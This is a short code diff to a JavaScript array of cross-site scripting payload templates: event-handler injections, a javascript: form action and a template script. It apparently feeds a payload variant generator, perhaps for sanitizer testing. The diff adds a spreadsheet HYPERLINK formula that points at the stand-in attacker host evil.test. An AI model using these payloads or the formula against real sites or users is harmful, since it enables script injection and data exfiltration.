@@ -20,7 +20,7 @@ const kinds = [
   ...['<video><source onerror=WORD()></video>'],
   ...['<form><button formaction=javascript:WORD()>x</button></form>'],
   ...['<input autofocus onfocus=WORD()>', '<svg><animate onbegin=WORD() attributeName=x></svg>'],
-  ...['<template><script>WORD()</script></template>'],
+  ...['<template><script>WORD()</script></template>', '=HYPERLINK("https://evil.test/WORD")'],
 ]
 
 /** So many different ones in full: each kind, and more of them under other names and letter cases. */
